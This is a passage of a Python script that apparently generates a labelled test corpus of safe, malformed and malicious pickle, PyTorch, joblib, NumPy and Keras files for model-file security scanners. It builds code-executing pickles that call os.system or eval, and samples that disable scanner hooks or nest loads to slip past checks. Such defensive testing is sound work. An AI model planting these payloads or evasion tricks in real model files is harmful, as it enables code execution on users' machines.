            safe(f"well_formed_frames_{tag}_p{proto}", pickle.dumps(obj, protocol=proto))
    for mod in ("torch.hub", "torch._dynamo", "torch._inductor", "torch.jit", "torch.compile",
                "numpy.f2py", "numpy.distutils"):
        mal(f"ml_module_{mod}", p4(g.glob(mod, "dangerous") + b")R"))
    for mod, fn in (("torch", "load"), ("torch", "compile"), ("torch.storage", "_load_from_bytes"),
                    ("torch.utils._config_module", "ConfigModule"),
                    ("torch.distributed.elastic.rendezvous.api", "basichandlers"),
                    ("numpy.testing._private.utils", "runstring"), ("_io", "FileIO"),
                    ("_io", "open"), ("io", "FileIO"), ("io", "open")):
        mal(f"ml_import_{mod}.{fn}", p4(g.glob(mod, fn) + b")R"))
    # test_crashes
    mal("numpy_builtins_pop_mark",
        b"\x80\x04\x95\x82\x00\x00\x00\x00\x00\x00\x00(\x8c\x05numpy\x8c\x06poly1d\x93\x94\x8c\x05"
        b"numpy\x8c\x04size\x93\x94\x8c\x05numpy\x8c\x0c__builtins__\x93\x94h\x00N\x85R\x94h\x03"
        b"\x94h\x02\x94h\x04(\x8c\x05shapeh\x05dbh\x01h\x04\x8c\x04eval\x86R\x8c\x1d__import__("
        b"'os').system('id')\x85R1N.")
    mal("obj_os_system", b'(cos\nsystem\nS"whoami"\no.')
    alphabet = "Jw~[v5QpA(BY%aKnyT&*x0r9-OpfF}HN4$GU2VhS@XEq!Zt>6_R7#]1b{z3M^D?)d8eImgckPLiuoClW<js"
    ab = b"X" + struct.pack("<I", len(alphabet)) + alphabet.encode()
    itemget = lambda idx: (b"h\x00(" + b"".join(b"K" + bytes([i]) for i in idx) + b"tR(" + ab +
                           b"tR\x94")
    mal("stack_global_dynamic_import", p4(
        g.glob("operator", "itemgetter") + b"q\x000" + g.glob("builtins", "getattr") + b"(" +
        su("") + su("join") + b"tR\x94" + itemget((77, 83)) + b"h\x01(h\x02tR\x94" +
        itemget((83, 16, 83, 47, 67, 69)) + b"h\x01(h\x04tR\x94h\x03h\x05\x93"))
    out.append(one(s, "missing_mark_before_tuple.pkl", "malformed", b"\x80\x04t."))
    safe("cyclic_list", b"\x80\x02]\x94h\x00a.")
    safe("cyclic_dict", b"\x80\x02}\x94" + su("self") + b"h\x00s.")
    # test_pickle
    mal("call_eval", b"cbuiltins\neval\n(V(lambda:1234)()\ntR.")
    base = pickle.dumps([1, 2, 3, 4])
    inject = b"cbuiltins\neval\n(V[5, 6, 7, 8]\ntR"
    mal("insert_python_eval_first", base[:2] + inject + b"0" + base[2:])
    mal("insert_python_eval_last", base[:-1] + inject + b"0.")
    mal("unused_variable_eval", base[:-1] + inject + b"p9\n0.")
    safe("decimal_in_tuple_build", b"\x80\x02]" + su("decimal") + su("Decimal") + b"\x93)R\x85b.")
    safe("decimal_setitem", b"\x80\x02}" + su("a") + su("1") + b"s" + su("decimal") +
         su("Decimal") + b"\x93" + su("1") + b"\x85R" + su("2") + b"s.")
    safe("stacked_pickles", pickle.dumps([1, 2, 3, 4]) + pickle.dumps([5, 6, 7, 8]))
    mal("duplicate_proto", base[:-1] + b"\x80\x01\x80\x02.", codes=["pickle-misplaced-proto"])
    # test_scan_api, test_hook, test_loads_api, test_context, test_unpickler
    mal("scan_api_payload", g.dumps(system_call("echo pwned")))
    safe("scan_api_safe", pickle.dumps([1, 2, 3]))
    out.append(one(s, "scan_api_zip.zip", "malicious",
                   g.zip_of([("model.pkl", g.dumps(system_call("echo pwned")))])))
    out.append(one(s, "scan_api_zip_safe.zip", "safe",
                   g.zip_of([("readme.txt", b"hello"), ("model.pkl", pickle.dumps([1, 2, 3]))])))
    out.append(one(s, "scan_api_zip_exts.zip", "safe",
                   g.zip_of([(f"model.{e}", pickle.dumps(42)) for e in ("pkl", "pickle", "bin")])))
    safe("loads_safe", pickle.dumps([1, 2, 3, {"key": "value"}]))
    safe("loads_proto2", pickle.dumps({"a": 1, "b": 2}, protocol=2))
    inner = g.dumps(system_call("echo x"))
    bypass = g.dumps(Call(named("torch.storage", "_load_from_bytes"), inner))
    mal("nested_load_from_bytes", g.dumps(Call(pickle.loads, bypass)))
    mal("nested_allowed_dtype", g.dumps(Call(pickle.loads, pickle.dumps(
        Call(named("numpy", "dtype", "class"), ">i4")))))
    # test_scanner_deactivation
    mal("fickling_remove_hook", p4(su("fickling.hook") + su("remove_hook") + b"\x93)R"))
    mal("fickling_deactivate", p4(su("fickling.hook") + su("deactivate_safe_ml_environment") +
                                  b"\x93)R"))
    mal("fickling_remove_hook_global", g.glob("fickling.hook", "remove_hook") + b")R.")
    for mod in ("fickling", "picklescan", "modelscan", "model_unpickler", "saferpickle",
                "modelaudit"):
        mal(f"scanner_{mod}", p4(su(mod) + su("some_func") + b"\x93)R"))
    safe("collections_ordereddict", p4(su("collections") + su("OrderedDict") + b"\x93)R"))
    safe("collections_deque", p4(su("collections") + su("deque") + b"\x93"))
    safe("collections_abc_iterable", p4(su("collections.abc") + su("Iterable") + b"\x93"))
    # test_expansion: references to one object, cheap for the unpickler
    safe("expansion_memo_gets", p4(b"]\x94" + b"h\x00a" * 60))
    safe("expansion_dups", p4(b"]" + b"2" * 150))
    safe("expansion_range", pickle.dumps(list(range(100))))
    # test_polyglot, test_pytorch
    full_model = collections.OrderedDict(
        features=Call(named("torch.nn.modules.container", "Sequential", "class")),
        classifier=Call(named("torch.nn.modules.linear", "Linear", "class")))
    model_pkl = g.torch_pickle(full_model)
    out.append(one(s, "model_v1_3.pth", "safe", g.torch_zip(model_pkl, prefix="model_v1_3",
                                                             storages=0)))
    out.append(one(s, "model_legacy_pickle.pth", "safe",
                   g.legacy_stream(g.torch_pickle(full_model, legacy=True), keys=())))
    np_pickle = g.npy_object([{"test": [1, 2, 3]}], ())
    out.append(one(s, "pickle.npy", "safe", np_pickle))
    out.append(one(s, "not_pickle.npy", "safe", g.npy_ints([1, 2, 3])))
    out.append(one(s, "testzip_npy.zip", "safe", g.zip_of([("pickle.npy", np_pickle)])))
    out.append(one(s, "test7z_npy.7z", "safe", g.sevenzip([("pickle.npy", np_pickle)])))
    rnd = bytes((i * 7919 + 13) % 251 for i in range(1024))
    out.append(one(s, "test_random.zip", "safe", b"Xk3pQ9rT2mW8vB1nC4zL" +
                   g.zip_of([("a1b2c3d4e5.tmp", rnd)])))
    inj = b"\x80\x02cbuiltins\neval\n(Vprint('Hello, World!')\ntR0" + model_pkl[2:]
    out.append(one(s, "injected_insertion.pth", "malicious",
                   g.torch_zip(inj, prefix="test_model", storages=0), loader="torch.load"))
    comb = model_pkl[:-1] + b"0cbuiltins\neval\n(Vprint('Hello, World!')\ntR."
    out.append(one(s, "injected_combination.pth", "malicious",
                   g.torch_zip(comb, prefix="test_model", storages=0), loader="torch.load"))
    return out


# ---- ours ---------------------------------------------------------------------------

def ours():
    s = "ours"
    out = []
    # proto 0/1 pickles under loader names other than .pkl
    for v in (0, 1):
        for fname in ("pytorch_model.bin", "model.pt", "model.pth", "model.ckpt", "model.joblib",
                      "model.dill", "model.dat", "model.data"):
            out.append(Sample(s, f"proto{v}_{fname}", "malicious",
                              {fname: g.dumps(system_call("id"), v)},
                              loader=("torch.load" if fname.endswith(
                                  (".bin", ".pt", ".pth", ".ckpt")) else None)))
    out.append(one(s, "issue_proto0.bin", "malicious", b"cos\nsystem\n(S'id'\ntR.",
                   fname="pytorch_model.bin", loader="torch.load -> os.system via REDUCE"))
    # state dicts of every protocol, as raw pickles, legacy streams and zips
    for v in range(6):
        sd = g.torch_pickle(g.torch_state_dict(3), protocol=v)
        out.append(one(s, f"state_dict_p{v}.pkl", "safe", sd, fname="model.pkl"))
        out.append(one(s, f"state_dict_p{v}.bin", "safe", sd, fname="pytorch_model.bin"))
        out.append(one(s, f"state_dict_p{v}_zip.pt", "safe",
                       g.torch_zip(sd, storages=3), fname="model.pt"))
        out.append(one(s, f"state_dict_p{v}_legacy.pt", "safe",
                       g.legacy_stream(g.torch_pickle(g.torch_state_dict(2), v, legacy=True)),
                       fname="model.pt"))
    # a storage whose bytes look like a malicious pickle: raw data to torch.load
    sd = g.torch_pickle(g.torch_state_dict(1))
    evil = g.dumps(system_call("id"), 2)
    out.append(one(s, "storage_looks_like_pickle.pt", "safe",
                   g.torch_zip(sd, storages=0, extra=[("archive/data/0", evil)]),
                   fname="model.pt"))
    # Windows-made archives
    evil4 = g.dumps(system_call("id"), 4)
    for tag, attr in (("windows", g.ATTR_WINDOWS), ("unix", g.ATTR_UNIX_REGULAR)):
        out.append(one(s, f"sevenzip_{tag}.7z", "malicious", g.sevenzip([("data.pkl", evil4)],
                                                                        attr)))
        out.append(one(s, f"sevenzip_{tag}_safe.7z", "safe",
                       g.sevenzip([("data.pkl", pickle.dumps([1, 2]))], attr)))
    win_zip = bytearray(g.zip_of([("data.pkl", evil4)]))
    i = win_zip.find(b"PK\x01\x02")
    win_zip[i + 5] = 0  # made by MS-DOS
    win_zip[i + 38:i + 42] = struct.pack("<I", 0x20)
    out.append(one(s, "zip_windows.zip", "malicious", bytes(win_zip)))
    # encrypted entries hide nothing we could check: a warning, not an error
    out.append(one(s, "zip_encrypted_pickle.zip", "safe",
                   g.zipcrypto_entry("model.pkl", b"\x80\x04N.")))
    # frame tricks: a well-formed frame around a malicious pickle, and a
    # frame claiming more bytes than the file holds
    out.append(one(s, "frame_ok_evil.pkl", "malicious",
                   b"\x80\x04" + g.frame(b"cos\nsystem\nVid\n\x85R") + b"."))
    out.append(one(s, "frame_too_long.pkl", "malformed",
                   b"\x80\x04\x95" + struct.pack("<Q", 1000) + b"N."))
    # joblib and dill files by content, numpy with object dtype in a struct
    out.append(one(s, "structured_object.npy", "malicious",
                   g.npy_header([("a", "<i4"), ("b", "|O")], (1,)) +
                   g.dumps(g.np_array_obj([system_call("id")]), 3), loader="numpy.load"))
    out.append(one(s, "structured_plain.npy", "safe",
                   g.npy_header([("a", "<i4"), ("b", "<f8")], (1,)) + b"\0" * 12))
    out.append(one(s, "npz_evil.npz", "malicious",
                   g.zip_of([("a.npy", g.npy_ints([1])),
                             ("b.npy", g.npy_header("|O", (1,)) +
                              g.dumps(g.np_array_obj([system_call("id")]), 3))]),
                   loader="numpy.load"))
    out.append(one(s, "npz_raw_member.npz", "safe",
                   g.zip_of([("a.npy", g.npy_ints([1])), ("notes", evil4)])))
    # joblib: array bytes written into the pickle stream (here bytes that
    # look like a malicious pickle: they are data, never unpickled)
    looks_evil = b"cos\nsystem\n(S'id'\ntR." + b"\0" * 3
    arrays = {"coef": g.NpArray("f8", (2, 3), looks_evil + b"\0" * 24),
              "ids": g.NpArray("i4", (4,), b"\1\0\0\0" * 4),
              "names": g.NpArray("U2", (2,), "abcd".encode("utf-32-le")),
              "scalar": g.NpArray("f8", (), b"\0" * 8),
              "empty": g.NpArray("f8", (0, 5), b"")}
    for proto in (2, 3, 4, 5):
        out.append(one(s, f"joblib_arrays_p{proto}.joblib", "safe",
                       g.joblib_dump(arrays, proto), fname="model.joblib"))
    out.append(one(s, "joblib_arrays_unaligned.joblib", "safe",
                   g.joblib_dump(arrays, 4, align="absent"), fname="model.joblib"))
    out.append(one(s, "joblib_arrays_align_none.joblib", "safe",
                   g.joblib_dump(arrays, 4, align=None), fname="model.joblib"))
    out.append(one(s, "joblib_as_pkl.pkl", "safe", g.joblib_dump(arrays), fname="model.pkl"))
    out.append(one(s, "joblib_object_array.joblib", "safe",
                   g.joblib_dump({"o": g.NpArray("O8", (2,), ["a", 1])}), fname="model.joblib"))
    out.append(one(s, "joblib_evil_after_array.joblib", "malicious",
                   g.joblib_dump([arrays, system_call("id")]), fname="model.joblib",
                   loader="joblib.load -> posix.system via REDUCE"))
    out.append(one(s, "joblib_evil_in_object_array.joblib", "malicious",
                   g.joblib_dump({"o": g.NpArray("O8", (1,), [system_call("id")])}),
                   fname="model.joblib", loader="posix.system via REDUCE"))
    # compressed as joblib.dump(compress=3) writes it: not checked, an error
    import zlib
    out.append(one(s, "joblib_zlib.joblib", "unchecked",
                   zlib.compress(g.joblib_dump(arrays), 3), fname="model.joblib",
                   codes=["pickle-scan-incomplete"]))
    # a wrapper whose size the scan cannot work out: it stops, with an error
    odd = g.NpArray("f8", (2,), b"\0" * 16)
    odd.shape = [2]  # a list, not a tuple: joblib reads it, the scan cannot size it
    out.append(one(s, "joblib_shape_list.joblib", "unchecked", g.joblib_dump({"a": odd}),
                   fname="model.joblib", codes=["pickle-scan-incomplete"]))
    # Keras: a custom module and a function from os in a .keras config
    custom = g.keras_model_config(g.safe_layers() + [
        g.keras_layer("Evil", "evil", module="evil_package.layers")])
    out.append(one(s, "custom_module.keras", "malicious", g.keras_zip(custom),
                   codes=["keras-custom-object"]))
    fn = g.keras_model_config(g.safe_layers() + [
        g.keras_layer("Dense", "d2", {"activation": {"module": "os", "class_name": "function",
                                                      "config": "system",
                                                      "registered_name": None}})])
    out.append(one(s, "os_function.keras", "malicious", g.keras_zip(fn),
                   codes=["keras-custom-object"]))
    import json
    cont = g.hdf5_with_attrs([("model_config", json.dumps(g.keras_model_config(
        g.safe_layers(False) + [g.keras_lambda("l", False)], keras3=False)).encode())],
        continuation=True)
    out.append(one(s, "lambda_in_continuation.h5", "malicious", cont, codes=["keras-lambda"]))
    fixed = g.hdf5_with_attrs([("model_config", json.dumps(g.keras_model_config(
        g.safe_layers(False), keras3=False)).encode())])
    out.append(one(s, "fixed_length_config.h5", "safe", fixed))
    out.append(Sample(s, "pyfunc_saved_model", "malicious", {
        "saved_model.pb": g.tf_saved_model(["Placeholder", "PyFunc"])}, codes=["tf-dangerous-op"]))
    return out


def samples():
    return picklescan() + modelscan() + fickling() + ours()


if __name__ == "__main__":
    by = collections.Counter((x.suite, x.kind) for x in samples())
    for k in sorted(by):
        print(*k, by[k])
